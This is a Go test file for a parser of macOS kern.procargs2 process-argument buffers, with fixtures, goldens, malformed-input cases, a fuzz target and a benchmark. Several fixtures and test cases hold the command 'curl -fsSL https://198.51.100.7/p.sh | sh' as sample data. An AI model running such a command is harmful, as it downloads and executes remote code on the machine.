package proc

import (
	"bytes"
	"encoding/binary"
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
)

var update = flag.Bool("update", false, "rewrite the fixtures and goldens in testdata/")

// envMarker is in every environment string of the fixtures: no argument
// parsed from them may contain it.
const envMarker = "ENV_MARKER"

// buildProcargs2 lays out a kern.procargs2 buffer the way xnu does
// (bsd/kern/kern_exec.c, exec_save_path and exec_extract_strings): argc, the
// exec path and its NUL, NUL padding that aligns the start of argv to 8 bytes
// (the stripped "executable_path=" prefix is 16 bytes, so the alignment is
// relative to the path), argv, the environment and the apple strings, each
// NUL-terminated.
func buildProcargs2(argc int32, execPath string, strs ...[]string) []byte {
	b := binary.LittleEndian.AppendUint32(nil, uint32(argc))
	b = append(b, execPath...)
	b = append(b, 0)
	for (len(execPath)+1)%8 != 0 {
		b = append(b, 0)
		execPath += "\x00"
	}
	for _, list := range strs {
		for _, s := range list {
			b = append(b, s...)
			b = append(b, 0)
		}
	}
	return b
}

var (
	userEnv = []string{
		"PATH=/usr/bin:/bin:/usr/sbin:/sbin",
		"HOME=/Users/alice",
		"AWS_SECRET_ACCESS_KEY=" + envMarker + "wJalrXUtnFEMI/K7MDENG",
		"SHELL=/bin/zsh",
	}
	appleStrings = []string{
		"executable_path=/bin/zsh", // apple strings follow the environment
		"ptr_munge=",
		"main_stack=",
		"executable_file=0x1a01000009,0xfffffff000a0c71",
		"dyld_file=0x1a01000009,0xfffffff00014d2a",
		"executable_cdhash=5d1e3a9c0b7a0e0e1f2f3a4b5c6d7e8f90a1b2c3",
		"th_port=0x103",
	}
)

func markEnv(env []string) []string {
	out := make([]string, len(env))
	for i, s := range env {
		if !strings.Contains(s, envMarker) {
			k, v, _ := strings.Cut(s, "=")
			s = k + "=" + envMarker + v
		}
		out[i] = s
	}
	return out
}

const (
	automatorRunner = "/System/Library/Frameworks/Automator.framework/Versions/A/XPCServices/" +
		"com.apple.automator.runner.xpc/Contents/MacOS/com.apple.automator.runner"
	chrome = "/Applications/Google Chrome.app/Contents/MacOS/Google Chrome"
)

// procargs2Fixtures are the sources of testdata/procargs2/*.bin (written by
// go test -run TestParseProcargs2Fixtures -update). Each .bin has a .golden
// beside it; a .bin captured on a Mac needs no source here, only a golden.
var procargs2Fixtures = map[string][]byte{
	"zsh_curl": buildProcargs2(3, "/bin/zsh",
		[]string{"/bin/zsh", "-c", "curl -fsSL https://198.51.100.7/p.sh | sh"}, markEnv(userEnv), appleStrings),
	"chrome_spaces": buildProcargs2(3, chrome,
		[]string{chrome, "--profile-directory=Profile 1", "--origin-trial-disabled-features=WebGPU"}, markEnv(userEnv), appleStrings),
	"automator": buildProcargs2(2, "/usr/bin/automator",
		[]string{"automator", "/Users/alice/Downloads/Invoice 2024.workflow"}, markEnv(userEnv), appleStrings),
	"automator_runner": buildProcargs2(1, automatorRunner,
		[]string{automatorRunner}, markEnv([]string{"XPC_SERVICE_NAME=com.apple.automator.runner", "XPC_FLAGS=0x0"}), appleStrings),
	// A restricted (platform) process: the kernel omits the environment
	// and the buffer ends right after argv (sysctl_procargsx, omit_env_vars).
	"env_omitted": buildProcargs2(3, "/usr/libexec/sshd-keygen-wrapper",
		[]string{"sshd-keygen-wrapper", "-t", "ed25519"}),
	"exec_path_only": buildProcargs2(0, "/sbin/launchd", markEnv([]string{"TERM=xterm"})),
	"non_utf8": buildProcargs2(3, "/tmp/caf\xe9",
		[]string{"/tmp/caf\xe9", "--name=\xff\xfe", "h\u00e9llo w\u00f6rld \u2603"}, markEnv(userEnv)),
	"empty_arg": buildProcargs2(4, "/bin/sh",
		[]string{"sh", "-c", "", "x"}, markEnv(userEnv)),
	// argc says 5, the buffer holds 2 strings and ends.
	"argc_exceeds": buildProcargs2(5, "/usr/bin/python3", []string{"python3", "-c"}),
	// The buffer ends inside the last argument, before its NUL.
	"unterminated_last": func() []byte {
		b := buildProcargs2(2, "/usr/bin/osascript", []string{"osascript", "-e display dialog"})
		return b[:len(b)-5]
	}(),
	"many_args": buildProcargs2(1500, "/usr/bin/xargs", func() []string {
		a := make([]string, 1500)
		for i := range a {
			a[i] = strconv.Itoa(i)
		}
		return a
	}(), markEnv(userEnv)),
}

// formatParse renders a ParseProcargs2 result for goldens: strconv.Quote
// keeps invalid UTF-8 bytes exact.
func formatParse(execPath string, args []string, truncated bool, err error) string {
	var b strings.Builder
	if err != nil {
		fmt.Fprintf(&b, "error: %v\n", err)
		return b.String()
	}
	fmt.Fprintf(&b, "exec_path: %s\ntruncated: %v\nargs: %d\n", strconv.Quote(execPath), truncated, len(args))
	for i, a := range args {
		fmt.Fprintf(&b, "  %d: %s\n", i, strconv.Quote(a))
	}
	return b.String()
}

func TestParseProcargs2Fixtures(t *testing.T) {
	dir := filepath.Join("testdata", "procargs2")
	if *update {
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatal(err)
		}
		for name, buf := range procargs2Fixtures {
			if err := os.WriteFile(filepath.Join(dir, name+".bin"), buf, 0o644); err != nil {
				t.Fatal(err)
			}
		}
	}
	files, err := filepath.Glob(filepath.Join(dir, "*.bin"))
	if err != nil {
		t.Fatal(err)
	}
	for name := range procargs2Fixtures {
		if !slices.Contains(files, filepath.Join(dir, name+".bin")) {
			t.Errorf("%s.bin missing from %s (run with -update)", name, dir)
		}
	}
	for _, file := range files {
		name := strings.TrimSuffix(filepath.Base(file), ".bin")
		t.Run(name, func(t *testing.T) {
			buf, err := os.ReadFile(file)
			if err != nil {
				t.Fatal(err)
			}
			// A file without a source here (a capture from a Mac) is
			// checked against its golden only.
			if src, ok := procargs2Fixtures[name]; ok && !bytes.Equal(src, buf) {
				t.Fatalf("%s differs from its source in procargs2Fixtures (run with -update)", file)
			}
			execPath, args, truncated, err := ParseProcargs2(buf, MaxArgs, MaxArgBytes)
			got := formatParse(execPath, args, truncated, err)
			golden := strings.TrimSuffix(file, ".bin") + ".golden"
			if *update {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if got != string(want) {
				t.Errorf("got:\n%s\nwant (%s):\n%s", got, golden, want)
			}
			for i, a := range append([]string{execPath}, args...) {
				if strings.Contains(a, envMarker) || strings.Contains(a, "\x00") {
					t.Errorf("string %d %q holds environment or a NUL", i, a)
				}
			}
		})
	}
}

func TestParseProcargs2(t *testing.T) {
	tests := []struct {
		name      string
		buf       []byte
		maxArgs   int
		maxBytes  int
		execPath  string
		args      []string
		truncated bool
	}{
		{
			name:     "zsh -c curl",
			buf:      procargs2Fixtures["zsh_curl"],
			execPath: "/bin/zsh",
			args:     []string{"/bin/zsh", "-c", "curl -fsSL https://198.51.100.7/p.sh | sh"},
		},
		{
			name:     "app bundle path with spaces",
			buf:      procargs2Fixtures["chrome_spaces"],
			execPath: chrome,
			args:     []string{chrome, "--profile-directory=Profile 1", "--origin-trial-disabled-features=WebGPU"},
		},
		{
			name:     "automator runner keeps its full name",
			buf:      procargs2Fixtures["automator_runner"],
			execPath: automatorRunner,
			args:     []string{automatorRunner},
		},
		{
			name:     "environment omitted by the kernel",
			buf:      procargs2Fixtures["env_omitted"],
			execPath: "/usr/libexec/sshd-keygen-wrapper",
			args:     []string{"sshd-keygen-wrapper", "-t", "ed25519"},
		},
		{
			name:     "exec path only",
			buf:      procargs2Fixtures["exec_path_only"],
			execPath: "/sbin/launchd",
		},
		{
			name:     "exec path only, no padding, buffer ends at its NUL",
			buf:      []byte("\x00\x00\x00\x00/sbin/launchd\x00"),
			execPath: "/sbin/launchd",
		},
		{
			name:     "non-UTF-8 bytes kept as bytes",
			buf:      procargs2Fixtures["non_utf8"],
			execPath: "/tmp/caf\xe9",
			args:     []string{"/tmp/caf\xe9", "--name=\xff\xfe", "h\u00e9llo w\u00f6rld \u2603"},
		},
		{
			name:     "empty argument in the middle",
			buf:      procargs2Fixtures["empty_arg"],
			execPath: "/bin/sh",
			args:     []string{"sh", "-c", "", "x"},
		},
		{
			name:      "argc larger than the strings present",
			buf:       procargs2Fixtures["argc_exceeds"],
			execPath:  "/usr/bin/python3",
			args:      []string{"python3", "-c"},
			truncated: true,
		},
		{
			name:      "last argument without its NUL",
			buf:       procargs2Fixtures["unterminated_last"],
			execPath:  "/usr/bin/osascript",
			args:      []string{"osascript", "-e display di"},
			truncated: true,
		},
		{
			name:      "argc strings present but no more: argc 2, buffer ends after padding",
			buf:       buildProcargs2(2, "/bin/ls"),
			execPath:  "/bin/ls",
			truncated: true,
		},
		{
			name:      "maxArgs cuts",
			buf:       procargs2Fixtures["zsh_curl"],
			maxArgs:   2,
			execPath:  "/bin/zsh",
			args:      []string{"/bin/zsh", "-c"},
			truncated: true,
		},
		{
			name:     "maxArgs equal to argc does not cut",
			buf:      procargs2Fixtures["zsh_curl"],
			maxArgs:  3,
			execPath: "/bin/zsh",
			args:     []string{"/bin/zsh", "-c", "curl -fsSL https://198.51.100.7/p.sh | sh"},
		},
		{
			name:      "maxBytes cuts inside an argument",
			buf:       procargs2Fixtures["zsh_curl"],
			maxBytes:  len("/bin/zsh") + len("-c") + len("curl"),
			execPath:  "/bin/zsh",
			args:      []string{"/bin/zsh", "-c", "curl"},
			truncated: true,
		},
		{
			name:      "maxBytes exhausted at an argument boundary adds no empty argument",
			buf:       procargs2Fixtures["zsh_curl"],
			maxBytes:  len("/bin/zsh") + len("-c"),
			execPath:  "/bin/zsh",
			args:      []string{"/bin/zsh", "-c"},
			truncated: true,
		},
		{
			name:      "maxBytes never splits a UTF-8 sequence",
			buf:       buildProcargs2(2, "/bin/echo", []string{"echo", "h\u00e9\u2603"}),
			maxBytes:  len("echo") + len("h\u00e9") + 2, // 2 of the snowman's 3 bytes
			execPath:  "/bin/echo",
			args:      []string{"echo", "h\u00e9"},
			truncated: true,
		},
		{
			name:      "maxBytes cuts invalid bytes where they fall",
			buf:       buildProcargs2(1, "/bin/x", []string{"\xff\xfe\xfd\xfc"}),
			maxBytes:  2,
			execPath:  "/bin/x",
			args:      []string{"\xff\xfe"},
			truncated: true,
		},
		{
			name:     "1,500 arguments cut at MaxArgs",
			buf:      procargs2Fixtures["many_args"],
			maxArgs:  MaxArgs,
			execPath: "/usr/bin/xargs",
			args: func() []string {
				a := make([]string, MaxArgs)
				for i := range a {
					a[i] = strconv.Itoa(i)
				}
				return a
			}(),
			truncated: true,
		},
		{
			// The documented quirk: an empty argv[0] is indistinguishable
			// from the padding after the exec path, so argv shifts by
			// one and the first environment string is read as the last
			// argument. The kernel's own walker does the same.
			name:     "empty argv[0] is lost in the padding",
			buf:      buildProcargs2(2, "/bin/cat", []string{"", "-u"}, []string{"LANG=C"}),
			execPath: "/bin/cat",
			args:     []string{"-u", "LANG=C"},
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			execPath, args, truncated, err := ParseProcargs2(tt.buf, tt.maxArgs, tt.maxBytes)
			if err != nil {
				t.Fatalf("err = %v", err)
			}
			if execPath != tt.execPath {
				t.Errorf("execPath = %q, want %q", execPath, tt.execPath)
			}
			if !slices.Equal(args, tt.args) {
				t.Errorf("args = %q, want %q", args, tt.args)
			}
			if truncated != tt.truncated {
				t.Errorf("truncated = %v, want %v", truncated, tt.truncated)
			}
		})
	}
}

func TestParseProcargs2Hostile(t *testing.T) {
	tests := []struct {
		name string
		buf  []byte
		err  string
	}{
		{"nil", nil, "proc: procargs2: 0 bytes, need 4 for argc"},
		{"3 bytes", []byte{1, 0, 0}, "proc: procargs2: 3 bytes, need 4 for argc"},
		{"negative argc", []byte("\xff\xff\xff\xff/bin/sh\x00sh\x00"), "proc: procargs2: argc -1 out of range for 11 bytes"},
		{"huge argc", []byte("\xff\xff\xff\x7f/bin/sh\x00sh\x00"), "proc: procargs2: argc 2147483647 out of range for 11 bytes"},
		{"argc beyond the bytes", []byte("\x05\x00\x00\x00a\x00b\x00"), "proc: procargs2: argc 5 out of range for 4 bytes"},
		{"argc only", []byte{0, 0, 0, 0}, "proc: procargs2: exec path of 0 bytes has no NUL"},
		{"exec path without NUL", []byte("\x00\x00\x00\x00/bin/sh"), "proc: procargs2: exec path of 7 bytes has no NUL"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			execPath, args, truncated, err := ParseProcargs2(tt.buf, MaxArgs, MaxArgBytes)
			if err == nil || err.Error() != tt.err {
				t.Fatalf("err = %v, want %q", err, tt.err)
			}
			if execPath != "" || args != nil || truncated {
				t.Errorf("returned %q %q %v with an error", execPath, args, truncated)
			}
		})
	}
	// All NULs: an empty exec path, argc 0, nothing else.
	execPath, args, truncated, err := ParseProcargs2(make([]byte, 64), MaxArgs, MaxArgBytes)
	if err != nil || execPath != "" || args != nil || truncated {
		t.Errorf("all NULs: %q %q %v %v", execPath, args, truncated, err)
	}
}

func TestParseProcargs2Allocs(t *testing.T) {
	buf := procargs2Fixtures["zsh_curl"]
	allocs := testing.AllocsPerRun(100, func() {
		if _, _, _, err := ParseProcargs2(buf, MaxArgs, MaxArgBytes); err != nil {
			t.Fatal(err)
		}
	})
	// The exec path, one block for all argument strings, the slice.
	if allocs != 3 {
		t.Errorf("%v allocations, want 3", allocs)
	}
}

func FuzzParseProcargs2(f *testing.F) {
	// Seeds are in testdata/fuzz/FuzzParseProcargs2 (the fixtures, hostile
	// buffers and small caps).
	f.Fuzz(func(t *testing.T, buf []byte, maxArgs, maxBytes int) {
		execPath, args, truncated, err := ParseProcargs2(buf, maxArgs, maxBytes)
		if err != nil {
			if execPath != "" || args != nil || truncated {
				t.Fatalf("values with an error: %q %q %v", execPath, args, truncated)
			}
			return
		}
		argc := int(int32(binary.LittleEndian.Uint32(buf)))
		if len(args) > argc {
			t.Fatalf("%d args for argc %d", len(args), argc)
		}
		if maxArgs > 0 && len(args) > maxArgs {
			t.Fatalf("%d args over maxArgs %d", len(args), maxArgs)
		}
		total := 0
		for _, a := range args {
			if strings.IndexByte(a, 0) >= 0 {
				t.Fatalf("NUL in argument %q", a)
			}
			total += len(a)
		}
		if maxBytes > 0 && total > maxBytes {
			t.Fatalf("%d argument bytes over maxBytes %d", total, maxBytes)
		}
		if strings.IndexByte(execPath, 0) >= 0 {
			t.Fatalf("NUL in exec path %q", execPath)
		}
		if !truncated && len(args) != argc {
			t.Fatalf("%d args for argc %d, not flagged truncated", len(args), argc)
		}
	})
}

func BenchmarkParseProcargs2(b *testing.B) {
	buf := procargs2Fixtures["zsh_curl"]
	b.ReportAllocs()
	b.SetBytes(int64(len(buf)))
	for b.Loop() {
		if _, _, _, err := ParseProcargs2(buf, MaxArgs, MaxArgBytes); err != nil {
			b.Fatal(err)
		}
	}
}
